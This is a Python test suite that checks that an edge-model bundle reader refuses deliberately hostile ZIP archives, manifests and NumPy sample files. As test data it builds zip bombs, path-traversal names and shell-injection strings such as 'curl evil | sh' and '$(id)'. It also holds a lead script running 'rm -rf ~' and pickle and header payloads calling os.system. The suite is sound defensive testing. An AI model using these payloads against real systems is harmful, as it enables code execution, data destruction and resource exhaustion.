"""Archives that were made to deceive a reader: each is refused for what it is, in bounded memory and time.

All of them are sealed rightly: whoever can write a file can also seal it. What Python's own zipfile makes of them does
not matter; many it would read.
"""

from __future__ import annotations

import io
import json
import random
import stat
import struct
import tracemalloc
import zipfile
import zlib

import numpy as np
import pytest

from edgec.runtime.bundle import MANIFEST, MAX_MANIFEST, Bundle
from edgec.runtime.engines import open_engine
from edgec.runtime.engines import tflite as tflite_engine
from edgec.runtime.errors import ArtifactFailure, BundleError, EngineMissing
from edgec.runtime.golden import read_golden
from tests.bundle.hostile_archives import (
    DEFLATED,
    Entry,
    archive,
    changed,
    entries,
    manifest,
    sealed,
    with_manifest,
)

_PARITY = "parity.json"
_WEIGHTS = "payload/model.bin"
_MIB = 1 << 20


def refused(folder, content: bytes) -> BundleError:
    """What an artifact of these bytes is refused with; the check itself takes little memory, whatever is claimed."""
    path = folder / "hostile.edgec"
    path.write_bytes(content)
    tracemalloc.start()
    try:
        with pytest.raises(BundleError) as caught:
            Bundle.open(path).verify()
        assert tracemalloc.get_traced_memory()[1] < 24 * _MIB
    finally:
        tracemalloc.stop()
    assert all((caught.value.what, caught.value.why, caught.value.fix))
    assert caught.value.exit_code == 9
    return caught.value


def test_an_archive_that_is_as_it_should_be_is_read(tmp_path):
    """What is changed below is nothing but what makes the difference."""
    path = tmp_path / "good.edgec"
    path.write_bytes(archive(entries()))
    assert Bundle.open(path).verify()[_WEIGHTS] == 4096
    assert zipfile.ZipFile(path).testzip() is None


NAMES = {
    "parent": b"payload/../../etc/passwd",
    "parent alone": b"..",
    "absolute": b"/etc/passwd",
    "backslash": b"..\\..\\windows",
    "drive": b"C:evil",
    "alternate stream": b"a:b",
    "NUL": b"payload/model.bin\0.png",
    "NUL at once": b"\0",
    "line feed": b"a\nb",
    "escape sequence": b"\x1b[2Ja",
    "empty": b"",
    "space": b" ",
    "hidden": b".ssh/authorized_keys",
    "folder": b"payload/",
    "twice a slash": b"payload//x",
    "here": b"./x",
    "home": b"~/x",
    "option": b"-rf",
    "not ASCII": "mod\u00e9l".encode(),
    "right to left": "\u202egpj.exe".encode(),
    "device of Windows is no name of ours": b"payload/x ",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_name_that_could_mean_another_place_is_refused(tmp_path, name):
    why = refused(tmp_path, archive([*entries(), Entry(name)])).why
    assert "a name that is not allowed" in why
    assert why.isprintable()


@pytest.mark.parametrize("name", [name for name in NAMES.values() if name])
def test_nor_may_the_manifest_list_one(tmp_path, name):
    listed = {"bytes": 1, "sha256": "0" * 64}
    error = refused(tmp_path, archive(entries(lambda told: told["files"].update({name.decode(): listed}))))
    assert "lists a file with a name that is not allowed" in error.why
    assert error.why.isprintable()


def test_a_name_that_is_too_long_for_a_file_system_is_refused(tmp_path):
    assert "300 bytes" in refused(tmp_path, archive([*entries(), Entry(b"a" * 300)])).why


def test_a_file_that_is_also_a_folder_is_refused(tmp_path):
    assert "a folder that is a file" in refused(tmp_path, archive([*entries(), Entry(b"parity.json/x")])).why


KINDS = {
    "symbolic link": stat.S_IFLNK | 0o777,
    "folder": stat.S_IFDIR | 0o755,
    "block device": stat.S_IFBLK | 0o660,
    "character device": stat.S_IFCHR | 0o660,
    "pipe": stat.S_IFIFO | 0o600,
    "socket": stat.S_IFSOCK | 0o600,
    "of no kind": 0,
}


@pytest.mark.parametrize("mode", KINDS.values(), ids=KINDS)
def test_anything_but_a_plain_file_is_refused(tmp_path, mode):
    assert "is not a plain file" in refused(tmp_path, archive(changed(entries(), _PARITY, mode=mode))).why


def test_attributes_of_another_system_say_nothing_about_links(tmp_path):
    foreign = changed(entries(), _PARITY, central={"made_by": 20})
    assert "is not a plain file" in refused(tmp_path, archive(foreign)).why


def test_a_name_that_occurs_twice_is_refused(tmp_path):
    assert "holds parity.json twice" in refused(tmp_path, archive([*entries(), Entry(b"parity.json")])).why


# Bombs


def test_a_bomb_is_refused_by_what_it_claims(tmp_path):
    claim = {"size": 300 * _MIB}
    content = archive([*entries(), Entry(b"payload/zeros", bytes(_MIB), DEFLATED, local=claim, central=claim)])
    assert "inflate to 300 MiB" in refused(tmp_path, content).why


def test_many_small_bombs_are_one_large(tmp_path):
    claim = {"size": _MIB}
    bombs = [Entry(b"payload/%d" % index, b"", DEFLATED, local=claim, central=claim) for index in range(300)]
    assert "inflate to 256 MiB" in refused(tmp_path, archive([*entries(), *bombs])).why


def test_a_bomb_that_claims_to_be_small_inflates_no_further_than_its_claim(tmp_path):
    liar = {"size": 3}
    bomb = Entry(b"parity.json", b"{}\n", DEFLATED, local=liar, central=liar)
    squeezed = Entry(b"", bytes(64 * _MIB), DEFLATED).packed[:50]
    members = [entry if entry.name != bomb.name else bomb for entry in entries()]
    why = refused(tmp_path, archive(changed(members, _PARITY, raw=squeezed))).why
    assert "inflates to more than the 3 bytes" in why


def test_compressed_bytes_without_bound_are_refused(tmp_path):
    assert "two different sizes" in refused(tmp_path, archive(changed(entries(), _PARITY, raw=bytes(_MIB)))).why


def test_a_manifest_that_inflates_is_refused_before_it_does(tmp_path):
    text = b" " * (MAX_MANIFEST + 1)
    assert f"limit is {MAX_MANIFEST}" in refused(tmp_path, archive(with_manifest(text))).why


def test_a_manifest_whose_parser_would_inflate_is_bounded(tmp_path):
    """As much as a megabyte can do: half a million empty objects."""
    path = tmp_path / "hostile.edgec"
    text = b"[" + b"{}," * (MAX_MANIFEST // 3 - 2) + b"{}]"
    path.write_bytes(archive(with_manifest(text)))
    tracemalloc.start()
    with pytest.raises(BundleError, match="format version"):
        Bundle.open(path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 96 * _MIB


def test_files_that_share_their_bytes_overlap(tmp_path):
    """All entries point to one compressed kernel."""
    kernel = Entry(b"payload/a", bytes(_MIB), DEFLATED)
    members = [*entries(), kernel]
    first = 23 + sum(len(entry.local_header()) + len(entry.packed) for entry in members[:-1])
    more = [Entry(b"payload/%d" % index, b"", central={"place": first}) for index in range(3)]
    assert "overlap: payload/0 begins inside" in refused(tmp_path, archive([*members, *more])).why


def test_a_bomb_of_quoted_headers_overlaps(tmp_path):
    """David Fifield, "A better zip bomb" (WOOT 2019): each file's deflate stream quotes the next one's local header
    as a stored block, so that every file includes all that follow; headers and directory agree with each other."""
    lead = b"#!/usr/bin/env python3\n"
    good = entries()
    start = sum(len(entry.local_header()) + len(entry.packed) for entry in good) + len(lead)
    kernel = bytes(4096)
    last = Entry(b"payload/1", kernel, DEFLATED)
    quoted = last.local_header()
    block = struct.pack("<BHH", 0, len(quoted), len(quoted) ^ 0xFFFF)  # a stored block, not the last one
    first = Entry(b"payload/0", quoted + kernel, DEFLATED, raw=block + quoted + last.packed)
    header = first.local_header()
    body = lead + b"".join(entry.local_header() + entry.packed for entry in good) + header + first.packed
    inner = start + len(header) + len(block)
    assert body[inner : inner + 4] == b"PK\3\4"
    places, at = [], len(lead)
    for entry in good:
        places.append(at)
        at += len(entry.local_header()) + len(entry.packed)
    directory = b"".join(
        entry.central_header(place) for entry, place in zip([*good, first, last], [*places, start, inner], strict=True)
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, len(good) + 2, len(good) + 2, len(directory), len(body), 77)
    content = sealed(body + directory + end)
    with zipfile.ZipFile(io.BytesIO(content)) as usual:
        assert len(usual.namelist()) == len(good) + 2  # to other readers nothing is wrong with the directory
    assert "overlap: payload/1 begins inside" in refused(tmp_path, content).why


def test_a_file_that_reaches_into_the_directory_overlaps(tmp_path):
    sizes = {"stored": 4096 + 30, "size": 4096 + 30}
    last = [*entries(), Entry(b"zzz", bytes(4096), local=sizes, central=sizes)]
    assert "reaches into the directory" in refused(tmp_path, archive(last)).why


# Where the directory and a file's own header differ, two readers see two archives.

FIELDS = {
    "name": {"name": b"zarity.json"},
    "longer name": {"name": b"parity.json2"},
    "method": {"method": 0},
    "checksum": {"crc": 1},
    "compressed size": {"stored": 1},
    "size": {"size": 2},
    "flags": {"flags": 0x800},
    "time": {"time": 1},
    "version needed": {"needs": 45},
}


@pytest.mark.parametrize("told", FIELDS.values(), ids=FIELDS)
def test_a_local_header_that_differs_is_refused(tmp_path, told):
    content = archive(changed(entries(), _PARITY, local=told))
    assert "The header of parity.json is not what the directory says" in refused(tmp_path, content).why


def test_a_local_extra_field_that_the_directory_does_not_have_is_refused(tmp_path):
    """It would move the file's bytes for those who believe it."""
    members = entries()
    victim = next(entry for entry in members if entry.name == _PARITY.encode())
    members = changed(members, _PARITY, raw=struct.pack("<HH", 0xCAFE, 0) + victim.packed)
    header = next(entry for entry in members if entry.name == victim.name).local_header()
    longer = header[:28] + struct.pack("<H", 4) + header[30:]
    body = archive(members)[:-77]
    content = sealed(body.replace(header, longer))
    assert "The header of parity.json is not what the directory says" in refused(tmp_path, content).why


def test_a_data_descriptor_is_refused(tmp_path):
    flags = {"flags": 8}
    victim = next(entry for entry in entries() if entry.name == _PARITY.encode())
    behind = struct.pack("<4sLLL", b"PK\7\x08", zlib.crc32(victim.data), len(victim.packed), len(victim.data))
    nothing = {**flags, "crc": 0, "stored": 0, "size": 0}
    content = archive(changed(entries(), _PARITY, local=nothing, central=flags, after=behind))
    assert "data descriptor" in refused(tmp_path, content).why


@pytest.mark.parametrize(("bit", "message"), [(0x1, "encrypted"), (0x40, "encrypted"), (0x2000, "encrypted")])
def test_encryption_is_refused(tmp_path, bit, message):
    flags = {"flags": bit}
    assert message in refused(tmp_path, archive(changed(entries(), _PARITY, local=flags, central=flags))).why


@pytest.mark.parametrize("bit", [0x2, 0x20, 0x800, 0x8000])
def test_flags_without_use_are_refused(tmp_path, bit):
    flags = {"flags": bit}
    assert "has flags" in refused(tmp_path, archive(changed(entries(), _PARITY, local=flags, central=flags))).why


@pytest.mark.parametrize("method", [1, 6, 9, 12, 14, 93, 99])
def test_other_ways_to_compress_are_refused(tmp_path, method):
    assert f"method {method}" in refused(tmp_path, archive(changed(entries(), _PARITY, method=method))).why


def test_a_stored_file_of_two_sizes_is_refused(tmp_path):
    size = {"size": 8192}
    content = archive(changed(entries(), _WEIGHTS, local=size, central=size))
    assert "two different sizes" in refused(tmp_path, content).why


def test_a_wrong_checksum_is_refused(tmp_path):
    crc = {"crc": 1}
    assert "CRC-32" in refused(tmp_path, archive(changed(entries(), _PARITY, local=crc, central=crc))).why


def test_deflated_bytes_that_are_none_are_refused(tmp_path):
    assert "can't be inflated" in refused(tmp_path, archive(changed(entries(), _PARITY, raw=b"\xff" * 5))).why


def test_bytes_behind_a_deflated_file_are_refused(tmp_path):
    victim = next(entry for entry in entries() if entry.name == _PARITY.encode())
    content = archive(changed(entries(), _PARITY, raw=victim.packed + b"hidden"))
    assert "does not end where its compressed bytes do" in refused(tmp_path, content).why


# zip64


@pytest.mark.parametrize("key", ["stored", "size", "place"])
def test_sizes_in_an_extra_field_are_refused(tmp_path, key):
    extra = struct.pack("<HHQQQ", 1, 24, 3, 3, 23)
    content = archive(changed(entries(), _PARITY, central={key: 0xFFFFFFFF}, extra=extra))
    assert "zip64" in refused(tmp_path, content).why


@pytest.mark.parametrize("told", [{"count": 0xFFFF, "here": 0xFFFF}, {"size": 0xFFFFFFFF}, {"place": 0xFFFFFFFF}])
def test_a_second_directory_in_zip64_is_refused(tmp_path, told):
    assert "zip64" in refused(tmp_path, archive(entries(), end=told)).why


def test_a_locator_of_one_is_refused_although_nothing_asks_for_it(tmp_path):
    """Some readers look for it at any rate."""
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, 0, 1)
    assert "zip64" in refused(tmp_path, archive(entries(), after_directory=locator)).why


# What is nobody's: bytes in which something else can hide


def test_bytes_between_files_are_refused(tmp_path):
    content = archive(changed(entries(), _PARITY, before=b"hidden"))
    assert "6 bytes before parity.json that belong to no file" in refused(tmp_path, content).why


def test_bytes_before_the_directory_are_refused(tmp_path):
    content = archive(entries(), before_directory=b"hidden")
    assert "6 bytes before the directory that belong to no file" in refused(tmp_path, content).why


def test_bytes_behind_the_directory_are_refused(tmp_path):
    content = archive(entries(), after_directory=bytes(40))
    assert "Its directory is not where it claims to be" in refused(tmp_path, content).why


def test_an_entry_that_is_not_counted_is_refused(tmp_path):
    count = len(entries())
    content = archive([*entries(), Entry(b"hidden")], end={"count": count, "here": count})
    assert "52 bytes more than its 6 entries" in refused(tmp_path, content).why


@pytest.mark.parametrize("lead", [b"", b"#!/bin/sh\nrm -rf ~\n", b"MZ" + bytes(100), b"#!/usr/bin/env python2\n"])
def test_another_beginning_is_refused(tmp_path, lead):
    assert any(word in refused(tmp_path, archive(entries(), lead=lead)).why for word in ("begin", "belong to no file"))


def test_a_script_of_the_same_length_is_refused(tmp_path):
    lead = b"#!/usr/bin/env pythonX\n"
    assert "line that names its interpreter" in refused(tmp_path, archive(entries(), lead=lead)).why


def test_an_archive_behind_another_one_is_refused(tmp_path):
    """Who reads from the front sees the first, who reads from the end the second."""
    content = archive(entries())
    assert refused(tmp_path, sealed(content + content[: -len(content) // 2])).why
    assert "belong to no file" in refused(tmp_path, archive(entries(), lead=archive(entries()))).why


def test_bytes_behind_the_seal_are_refused(tmp_path):
    assert "does not end as an artifact does" in refused(tmp_path, archive(entries()) + b"\n").why


def test_a_comment_before_the_seal_is_refused(tmp_path):
    """It could hold another end of the directory, which readers that search for it find first."""
    fake = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0, 0, 0, 0, 77)
    assert refused(tmp_path, archive(entries(), comment=b"hello")).why
    assert refused(tmp_path, archive(entries(), comment=fake)).why


@pytest.mark.parametrize("told", [{"comment": 0}, {"comment": 76}, {"comment": 0xFFFF}])
def test_a_comment_that_is_not_as_long_as_it_says_is_refused(tmp_path, told):
    assert "comment" in refused(tmp_path, archive(entries(), end=told)).why


def test_extra_fields_and_comments_of_members_are_refused(tmp_path):
    field = struct.pack("<HH", 0x7875, 4) + b"root"
    assert "extra fields or a comment" in refused(tmp_path, archive(changed(entries(), _PARITY, extra=field))).why
    assert "extra fields or a comment" in refused(tmp_path, archive(changed(entries(), _PARITY, comment=b"hi"))).why


@pytest.mark.parametrize("told", [{"disk": 1}, {"first": 1}, {"here": 1}])
def test_a_part_of_several_is_refused(tmp_path, told):
    assert "one part of several" in refused(tmp_path, archive(entries(), end=told)).why


# How much


def test_more_files_than_an_artifact_has_are_counted_before_they_are_read(tmp_path):
    many = [Entry(b"payload/%d" % index, b"") for index in range(4100)]
    assert "4106 files" in refused(tmp_path, archive([*entries(), *many])).why


def test_a_directory_that_is_larger_than_its_entries_is_not_read(tmp_path):
    """Python's zipfile believes the size and not the count: a million entries here, and an object for each."""
    hidden = Entry(b"a").central_header(0) * 100_000
    content = archive(entries(), after_directory=hidden, end={"size": 0})
    assert "not where it claims to be" in refused(tmp_path, content).why
    own = sum(len(entry.central_header(0)) for entry in entries())
    content = archive(entries(), after_directory=hidden, end={"size": own + len(hidden)})
    assert "more than they need" in refused(tmp_path, content).why


@pytest.mark.parametrize("told", [{"place": 0}, {"place": 1 << 30}, {"size": 0}, {"count": 5, "here": 5}])
def test_a_directory_somewhere_else_is_refused(tmp_path, told):
    assert refused(tmp_path, archive(entries(), end=told)).why


def test_an_empty_archive_is_refused(tmp_path):
    assert "has no manifest.json" in refused(tmp_path, archive([])).why
    assert "too short" in refused(tmp_path, sealed(b"PK")).why


# The manifest

TEXTS = {
    "nested": (b"[" * 100_000, "nested too deeply"),
    "nested objects": (b'{"a":' * 100_000, "nested too deeply"),
    "a number of many digits": (b'{"format_version": ' + b"9" * 500_000 + b"}", "500000 digits"),
    "not a number": (b'{"format_version": NaN}', "no number in JSON"),
    "a key twice": (b'{"format_version": 1, "format_version": 1}', "a key twice"),
    "not UTF-8": (b'{"\xff": 1}', "not JSON"),
    "nothing": (b"", "not JSON"),
    "a list": (b"[]", "reads version 1"),
    "true": (b'{"format_version": true}', "reads version 1"),
    "more than one": (b"{}{}", "not JSON"),
}


@pytest.mark.parametrize(("text", "message"), TEXTS.values(), ids=TEXTS)
def test_a_text_that_is_no_manifest_is_refused(tmp_path, text, message):
    assert message in refused(tmp_path, archive(with_manifest(text))).why


CHANGES = {
    "name with a path": (lambda told: told.update(name="../../root"), "'name' can't be part of a file's name"),
    "absolute name": (lambda told: told.update(name="/etc/cron.d/x"), "'name' can't be part"),
    "hidden name": (lambda told: told.update(name=".bashrc"), "'name' can't be part"),
    "name with NUL": (lambda told: told.update(name="a\0b"), "'name' can't be part"),
    "name for a terminal": (lambda told: told.update(name="\x1b]0;x\x07"), "'name' can't be part"),
    "endless name": (lambda told: told.update(name="a" * 5000), "'name' can't be part"),
    "target with a path": (lambda told: told.update(target="../rpi4"), "'target' can't be part"),
    "engine with a path": (lambda told: told["engine"].update(name="../../evil"), "'engine.name' is not a name"),
    "engine with dots": (lambda told: told["engine"].update(name=".os"), "'engine.name' is not a name"),
    "a shell in the advice": (
        lambda told: told["engine"].update(distribution='x"; curl evil | sh; "'),
        "'engine.distribution' is not a name",
    ),
    "a shell in the version": (
        lambda told: told["engine"].update(minimum_version="1$(id)"),
        "'engine.minimum_version'",
    ),
    "an option in place of a package": (
        lambda told: told["engine"].update(distribution="--index-url=http://evil"),
        "'engine.distribution'",
    ),
    "feature for a terminal": (lambda told: told.update(cpu_features=["\x1b[2J"]), "'cpu_features[0]' is not a name"),
    "payload outside": (lambda told: told.update(payload=["payload/../parity.json"]), "'payload' names files"),
    "payload of code": (lambda told: told.update(payload=["__main__.py"]), "'payload' names files"),
    "threads": (lambda told: told.update(threads=10**9), "'threads' is not between"),
    "threads below zero": (lambda told: told.update(threads=-1), "'threads' is not between"),
    "a truth in place of a number": (lambda told: told.update(threads=True), "'threads' is of the wrong type"),
    "a shape of all memory": (lambda told: told["inputs"][0].update(shape=[1 << 30, 1 << 30]), "no tensor has"),
    "a shape of many axes": (lambda told: told["inputs"][0].update(shape=[1] * 1000), "no tensor has"),
    "a shape of long numbers": (lambda told: told["inputs"][0].update(shape=[10**39] * 20_000), "no tensor has"),
    "a state that is a list": (lambda told: told.update(state={"y": []}), "'state' names"),
    "a tolerance without end": (
        lambda told: told["selftest"]["tolerances"].update(y=float("inf")),
        "no number in JSON",
    ),
    "a tolerance below zero": (lambda told: told["selftest"]["tolerances"].update(y=-1), "tolerance of the self-test"),
    "a recipe that is none": (lambda told: told.update(preprocess="rm"), "'preprocess' is not an object"),
    "a recipe without steps": (lambda told: told.update(preprocess={"name": "x"}), "has no 'applies_to'"),
    "no glibc": (lambda told: told.update(min_glibc="2;id"), "'min_glibc' is not a version"),
}


@pytest.mark.parametrize(("change", "message"), CHANGES.values(), ids=CHANGES)
def test_a_manifest_that_would_mislead_is_refused(tmp_path, change, message):
    error = refused(tmp_path, archive(entries(change)))
    assert message in error.why
    assert error.why.isprintable()


def test_infinity_in_other_words_is_no_tolerance(tmp_path):
    text = json.dumps(manifest()).replace('"y": 0.5', '"y": 1e999').encode()
    assert "tolerance of the self-test" in refused(tmp_path, archive(with_manifest(text))).why


def _recipe(**how):
    good = {"applies_to": "images", "color": "RGB", "layout": "auto", "dtype": "float32", "steps": [{"op": "resize"}]}
    return {**good, "normalize": {"scale": 1.0, "mean": [0.0], "std": [1.0]}, **how}


RECIPES = {
    "color": ({"color": "/etc"}, "'color' of 'preprocess'"),
    "layout": ({"layout": "__class__"}, "'layout' of 'preprocess'"),
    "dtype": ({"dtype": "object"}, "'dtype' of 'preprocess'"),
    "step with a path": ({"steps": [{"op": "resize", "interpolation": "../x"}]}, "neither a word"),
    "step with a function": ({"steps": [{"op": "resize", "size": {"a": 1}}]}, "neither a word"),
    "step of all memory": ({"steps": [{"op": "resize", "size": [10**20, 1]}]}, "neither a word"),
    "step below zero": ({"steps": [{"op": "resize", "size": [-1, 1]}]}, "neither a word"),
    "division by zero": ({"normalize": {"scale": 1, "mean": [0], "std": [0]}}, "can't be computed with"),
    "no mean": ({"normalize": {"scale": 1, "mean": [], "std": [1]}}, "can't be computed with"),
}


@pytest.mark.parametrize(("how", "message"), RECIPES.values(), ids=RECIPES)
def test_a_recipe_that_would_mislead_is_refused(tmp_path, how, message):
    content = archive(entries(lambda told: told.update(preprocess=_recipe(**how))))
    assert message in refused(tmp_path, content).why


def test_a_recipe_as_it_should_be_is_taken(tmp_path):
    path = tmp_path / "good.edgec"
    path.write_bytes(archive(entries(lambda told: told.update(preprocess=_recipe()))))
    assert Bundle.open(path).manifest["preprocess"]["color"] == "RGB"


# Engines


def test_an_engine_is_one_of_ours_whatever_the_manifest_says():
    for name in ("os", "..errors", "tflite.evil", "subprocess"):
        with pytest.raises(EngineMissing, match="This artifact needs the engine"):
            open_engine(name, {}, {})


@pytest.mark.parametrize("library", ["/tmp/evil.so", "../evil.so", "libc.so.6", "libedgetpu/../../evil.so", ""])
def test_no_library_is_loaded_from_where_an_artifact_says(monkeypatch, library):
    monkeypatch.setattr(tflite_engine.ctypes, "CDLL", lambda name: pytest.fail(f"{name} was loaded"))
    options = {"inputs": [], "outputs": [], "edgetpu": {"file": "m", "delegate": library}}
    with pytest.raises(BundleError, match="library that runs the Edge TPU"):
        tflite_engine.load({"m": b""}, options, 1)


# golden.npz


def _npy(header: str, data: bytes = b"", version: bytes = b"\1\0") -> bytes:
    size = struct.pack("<H" if version == b"\1\0" else "<L", len(header))
    return b"\x93NUMPY" + version + size + header.encode() + data


def _npz(method: int = zipfile.ZIP_STORED, **members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as packed:
        for name, data in members.items():
            packed.writestr(f"{name}.npy", data)
    return stream.getvalue()


def _saved(**arrays) -> bytes:
    stream = io.BytesIO()
    np.savez(stream, **arrays)
    return stream.getvalue()


def _samples(**how) -> bytes:
    texts = {"inputs": np.array(["x"]), "outputs": np.array(["y"]), "output_steps": np.zeros(1)}
    numbers = {"sample_steps": np.array([1]), "input.0.0.0": np.zeros(2), "output.0.0.0": np.zeros(2)}
    return _saved(**{**texts, **numbers, **how})


_HUGE = "{'descr': '<f4', 'fortran_order': False, 'shape': (1000000, 1000000), }\n"
_PICKLED = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
GOLDEN = {
    "a shape of all memory": (lambda: _npz(inputs=_npy(_HUGE)), "claims to be 1000000x1000000"),
    "a shape below zero": (lambda: _npz(inputs=_npy(_HUGE.replace("(", "(-"))), "claims to be"),
    "pickles": (lambda: _npz(inputs=_npy(_PICKLED, b"cos\nsystem\n(S'id'\ntR.")), "is not numbers"),
    "pickles inside of a structure": (
        lambda: _npz(inputs=_npy("{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }\n", bytes(8))),
        "is not numbers",
    ),
    "a header that is code": (lambda: _npz(inputs=_npy("__import__('os').system('id')\n")), "inputs"),
    "a nested header": (lambda: _npz(inputs=_npy("(" * 20_000)), "inputs"),
    "a huge header": (lambda: _npz(inputs=_npy(" " * 70_000, version=b"\2\0")), "a huge one"),
    "another version": (lambda: _npz(inputs=_npy(_HUGE, version=b"\7\0")), "another kind"),
    "no array": (lambda: _npz(inputs=b"text"), "another kind"),
    "a bomb": (lambda: _npz(zipfile.ZIP_DEFLATED, inputs=bytes(50 * _MIB)), "claim to have 52428800 bytes"),
    "a small bomb": (lambda: _npz(zipfile.ZIP_DEFLATED, inputs=random.Random(0).randbytes(500)), "is compressed"),
    "many arrays": (lambda: b"PK\1\2" * 70_000, "more than 65535 arrays"),
    "no sample": (lambda: _samples(sample_steps=np.array([], int)), "no sample"),
    "a sample of no steps": (lambda: _samples(sample_steps=np.array([0])), "no sample"),
    "endless steps of nothing": (
        lambda: _saved(
            inputs=np.array([], "U1"), outputs=np.array([], "U1"), output_steps=np.zeros(0), sample_steps=[10**15]
        ),
        "no sample",
    ),
    "endless steps": (lambda: _samples(sample_steps=np.array([10**15])), "'input.0.1.0' is not there"),
    "steps that are not whole": (lambda: _samples(sample_steps=np.array([1.5])), "'sample_steps' is float64"),
    "a number in place of names": (lambda: _samples(inputs=np.array([1])), "'inputs' is int64"),
    "a name twice": (lambda: _samples(inputs=np.array(["x", "x"])), "a name is there twice"),
    "text in place of numbers": (lambda: _samples(**{"output.0.0.0": np.array("evil")}), "'output.0.0.0' is <U4"),
    "arrays of nobody": (lambda: _samples(hidden=np.zeros(3)), "belong to no sample"),
}


@pytest.mark.parametrize(("make", "message"), GOLDEN.values(), ids=GOLDEN)
def test_golden_samples_that_were_made_to_harm_are_refused(make, message):
    content = make()
    tracemalloc.start()
    try:
        with pytest.raises(BundleError, match="golden samples") as caught:
            read_golden(content)
        assert tracemalloc.get_traced_memory()[1] < 24 * _MIB
    finally:
        tracemalloc.stop()
    assert message in caught.value.why
    assert caught.value.fix


def test_golden_samples_as_they_should_be_are_read():
    assert len(read_golden(_samples()).samples) == 1


# Whatever else


def test_hundreds_of_changes_at_random_are_read_or_refused_in_words(tmp_path):
    """Some bytes are changed, cut or doubled, and the file sealed again: never anything but an error in words."""
    dice = random.Random(0)
    good = archive(entries())[:-77]
    path = tmp_path / "fuzzed.edgec"
    outcomes = {"read": 0, "refused": 0}
    for _ in range(500):
        body = bytearray(good)
        for _ in range(dice.choice((1, 1, 2, 8))):
            at = dice.randrange(len(body))
            if dice.random() < 0.6:  # the weights are half of the file, and the least interesting
                at = dice.choice([dice.randrange(0, 200), len(body) - 1 - dice.randrange(0, 500)]) % len(body)
            kind = dice.randrange(5)
            if kind == 0:
                body[at] = dice.randrange(256)
            elif kind == 1:
                body[at] ^= 1 << dice.randrange(8)
            elif kind == 2:
                del body[at : at + dice.randrange(1, 40)]
            elif kind == 3:
                body[at:at] = body[at : at + dice.randrange(1, 200)]
            else:
                body[at : at + 4] = struct.pack("<L", dice.choice((0, 1, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF)))
        path.write_bytes(sealed(bytes(body)))
        try:
            Bundle.open(path).verify()
            outcomes["read"] += 1
        except ArtifactFailure as failure:
            assert all((failure.what, failure.why, failure.fix))
            outcomes["refused"] += 1
    assert outcomes["refused"] > 450


def test_hundreds_of_manifests_at_random_are_read_or_refused_in_words(tmp_path):
    """A value somewhere in the manifest is replaced by one of another kind."""
    dice = random.Random(1)
    path = tmp_path / "fuzzed.edgec"
    odd = [None, True, -1, 10**30, 1.5, "", "../x", "\ud800", "\x1b[2J", [], [[]], {}, {"a": {}}, ["x"], [1], "9" * 300]
    for _ in range(500):
        told = manifest()
        told["preprocess"] = _recipe()
        place = told
        while True:
            key = dice.choice(list(place) if isinstance(place, dict) else range(len(place)))
            if not isinstance(place[key], dict | list) or not place[key] or dice.random() < 0.3:
                place[key] = dice.choice(odd)
                break
            place = place[key]
        path.write_bytes(archive(with_manifest(json.dumps(told).encode())))
        try:
            Bundle.open(path).verify()
        except ArtifactFailure as failure:
            assert all((failure.what, failure.why, failure.fix))


def test_what_was_checked_is_what_python_runs(tmp_path):
    """Python finds an artifact's code by the directory too: it sees the same members."""
    path = tmp_path / "good.edgec"
    path.write_bytes(archive(entries()))
    import zipimport

    found = zipimport.zipimporter(str(path))
    assert set(found._files) == {*manifest()["files"], MANIFEST}
